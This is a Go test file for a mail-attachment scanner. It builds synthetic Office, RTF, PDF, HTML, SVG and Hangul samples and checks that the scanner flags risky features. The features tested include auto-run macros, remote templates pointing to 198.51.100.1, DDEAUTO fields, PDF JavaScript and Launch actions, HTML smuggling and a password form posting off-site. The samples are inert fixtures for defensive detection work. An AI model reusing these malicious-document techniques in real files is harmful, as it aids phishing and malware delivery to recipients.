package active

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"dwell/detect/attachment/archive"
	"dwell/detect/attachment/filetype"
	"dwell/internal/testkit"
)

func inspect(data []byte) Set {
	kind := filetype.Identify(data)
	return Inspect(kind, data, archive.List(kind, data))
}

type file struct{ name, content string }

func bundleOf(t testing.TB, files ...file) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		part, err := w.Create(f.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := part.Write([]byte(f.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// compoundOf writes a compound file with one storage that holds streams of one
// sector chain each (MS-CFB, version 3).
func compoundOf(storage string, streams ...file) []byte {
	const sector, end, free, fatSector = 512, 0xfffffffe, 0xffffffff, 0xfffffffd
	const perStream = 8 // sectors: 4,096 bytes keep a stream out of the mini stream
	entries := 2 + len(streams)
	directory := (entries*128 + sector - 1) / sector
	total := 1 + directory + perStream*len(streams)
	out := make([]byte, sector*(1+total))
	header := out[:sector]
	copy(header, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	put16, put32 := binary.LittleEndian.PutUint16, binary.LittleEndian.PutUint32
	put16(header[24:], 0x3e)
	put16(header[26:], 3)
	put16(header[28:], 0xfffe)
	put16(header[30:], 9)
	put16(header[32:], 6)
	put32(header[44:], 1)
	put32(header[48:], 1)
	put32(header[56:], 4096)
	put32(header[60:], end)
	put32(header[68:], end)
	for i := range 109 {
		put32(header[76+4*i:], free)
	}
	put32(header[76:], 0)
	table := out[sector : 2*sector]
	for i := range sector / 4 {
		put32(table[4*i:], free)
	}
	put32(table, fatSector)
	chain := func(from, n int) {
		for i := range n {
			next := uint32(from + i + 1)
			if i == n-1 {
				next = end
			}
			put32(table[4*(from+i):], next)
		}
	}
	chain(1, directory)
	entry := func(i int, name string, kind byte, left, right, child, start, size uint32) {
		e := out[2*sector+i*128:][:128]
		units := utf16.Encode([]rune(name))
		for j, u := range units {
			put16(e[2*j:], u)
		}
		put16(e[64:], uint16(2*len(units)+2))
		e[66], e[67] = kind, 1
		put32(e[68:], left)
		put32(e[72:], right)
		put32(e[76:], child)
		put32(e[116:], start)
		put32(e[120:], size)
	}
	entry(0, "Root Entry", 5, free, free, 1, end, 0)
	child := uint32(free)
	if len(streams) > 0 {
		child = 2
	}
	entry(1, storage, 1, free, free, child, 0, 0)
	for i, s := range streams {
		start := 1 + directory + perStream*i
		chain(start, perStream)
		right := uint32(free)
		if i+1 < len(streams) {
			right = uint32(3 + i)
		}
		entry(2+i, s.name, 2, free, right, free, uint32(start), perStream*sector)
		copy(out[sector*(1+start):], s.content)
	}
	return out
}

// module is the source of a VBA module as an uncompressed container.
func module(source string) string {
	chunk := []byte(source)
	literals := make([]byte, 0, len(chunk)*9/8+1)
	for len(chunk) > 0 {
		n := min(8, len(chunk))
		literals = append(append(literals, 0), chunk[:n]...)
		chunk = chunk[n:]
	}
	header := make([]byte, 2)
	binary.LittleEndian.PutUint16(header, uint16(len(literals)-1)|0xb000)
	return "cache\x01" + string(header) + string(literals)
}

const types = `<?xml version="1.0"?><Types/>`

func TestWhatDocumentsDo(t *testing.T) {
	rels := func(kind, target string) file {
		return file{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r1" Type="http://example.com/relationships/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`}
	}
	for name, c := range map[string]struct {
		data []byte
		want Mark
	}{
		"macro in old Office":       {compoundOf("VBA", file{"dir", "x"}), Macro},
		"self-starting macro":       {compoundOf("VBA", file{"Module1", module("Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub\n")}), AutoMacro},
		"macro in OOXML":            {bundleOf(t, file{"[Content_Types].xml", types}, file{"word/vbaProject.bin", "x"}), Macro},
		"code of a macro in OOXML":  {bundleOf(t, file{"[Content_Types].xml", types}, file{"xl/vbaProject.bin", string(compoundOf("VBA", file{"M", module("Attribute VB_Name\nSub Workbook_Open()\n")}))}), AutoMacro},
		"macro sheet":               {bundleOf(t, file{"[Content_Types].xml", types}, file{"xl/macrosheets/sheet1.xml", "x"}), SheetMacro},
		"old macro sheet":           {compoundOf("x", file{"Workbook", "\x85\x00\x08\x00\x00\x00\x00\x00\x00\x01\x01a"}), SheetMacro},
		"remote template":           {bundleOf(t, file{"[Content_Types].xml", types}, rels("attachedTemplate", "http://198.51.100.1/a.dotm")), Template},
		"embedded package":          {compoundOf("ObjectPool", file{"\x01Ole10Native", "x"}), Embedded},
		"embedded object":           {bundleOf(t, file{"[Content_Types].xml", types}, file{"word/embeddings/oleObject1.bin", "x"}), Embedded},
		"equation":                  {compoundOf("ObjectPool", file{"Equation Native", "x"}), Equation},
		"DDE field":                 {bundleOf(t, file{"[Content_Types].xml", types}, file{"word/document.xml", "<w:instrText>DDEAUTO c:\\a</w:instrText>"}), DDE},
		"encrypted document":        {compoundOf("x", file{"EncryptedPackage", "x"}), Locked},
		"RTF object":                {[]byte(`{\rtf1{\object\objemb{\*\objdata 0105}}}`), RTFObject},
		"RTF equation":              {[]byte("{\\rtf1{\\object{\\*\\objdata 4571 7561\n74696f6e2e33}}}"), Equation},
		"RTF template":              {[]byte(`{\rtf1{\*\template http://198.51.100.1/a}}`), Template},
		"script in PDF":             {[]byte("%PDF-1.4\n<</S/JavaScript/JS(app.alert)>>"), PDFScript},
		"hidden script in PDF":      {[]byte("%PDF-1.4\n<</S/J#61vaScript>>"), PDFScript},
		"launch in PDF":             {[]byte("%PDF-1.4\n<</S/Launch/F(a)>>"), PDFLaunch},
		"HTML smuggling":            {[]byte("<html><script>var b=new Blob([atob('" + strings.Repeat("QUJD", 700) + "')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script></html>"), Smuggling},
		"password form":             {[]byte(`<html><form action="http://198.51.100.1"><input type="password"></form></html>`), Credentials},
		"SVG with a script":         {[]byte(`<svg xmlns="x"><script>1</script></svg>`), SVGScript},
		"Java":                      {bundleOf(t, file{"META-INF/MANIFEST.MF", "Main-Class: A"}), JavaArchive},
		"HWPX":                      {bundleOf(t, file{"mimetype", "application/hwp+zip"}), Hangul},
		"HWP with a program in EPS": {compoundOf("BinData", file{"BIN0001.eps", "%!PS\n<" + strings.Repeat("41", 400) + "> cvx exec\n"}), PostScript},
	} {
		t.Run(name, func(t *testing.T) {
			if got := inspect(c.data); !got.Has(c.want) {
				t.Errorf("marks %b lack %d", got, c.want)
			}
		})
	}
}

func TestOrdinaryDocumentsDoNothing(t *testing.T) {
	for name, data := range map[string][]byte{
		"OOXML with a link":    bundleOf(t, file{"[Content_Types].xml", types}, file{"word/_rels/document.xml.rels", `<Relationship Type="a/hyperlink" Target="http://example.com" TargetMode="External"/>`}, file{"word/document.xml", "the DDE protocol"}),
		"RTF":                  []byte(`{\rtf1\ansi text}`),
		"PDF":                  []byte("%PDF-1.4\n<</Type/Catalog/JSX 1>>"),
		"HTML with a script":   []byte("<html><script>track()</script><p>text</p></html>"),
		"SVG":                  []byte("<svg><path d='M0'/></svg>"),
		"HWP picture":          compoundOf("BinData", file{"BIN0001.jpg", "\xff\xd8\xff"}),
		"module without start": compoundOf("VBA", file{"Module1", module("Attribute VB_Name\nSub Total()\nEnd Sub\n")}),
	} {
		if got := inspect(data); got&^(1<<OfficeBundle) != 0 {
			t.Errorf("%s: %b", name, got)
		}
	}
}

func TestSharedHangulDocumentsAreBenign(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(testkit.Shared(t, "mail/formats/hwp"), "*"))
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range files {
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		got := inspect(data)
		if !got.Has(Hangul) || got&^(1<<Hangul|1<<Locked|1<<Embedded) != 0 {
			t.Errorf("%s: %b", filepath.Base(path), got)
		}
	}
}

func FuzzInspect(f *testing.F) {
	f.Add(compoundOf("VBA", file{"Module1", module("Attribute VB_Name\nSub AutoOpen()")}))
	f.Add(bundleOf(f, file{"[Content_Types].xml", types}, file{"word/vbaProject.bin", "x"}))
	f.Add([]byte("%PDF-1.4 /J#6"))
	f.Add([]byte(`{\rtf1 \objdata`))
	f.Fuzz(func(t *testing.T, data []byte) { inspect(data) })
}
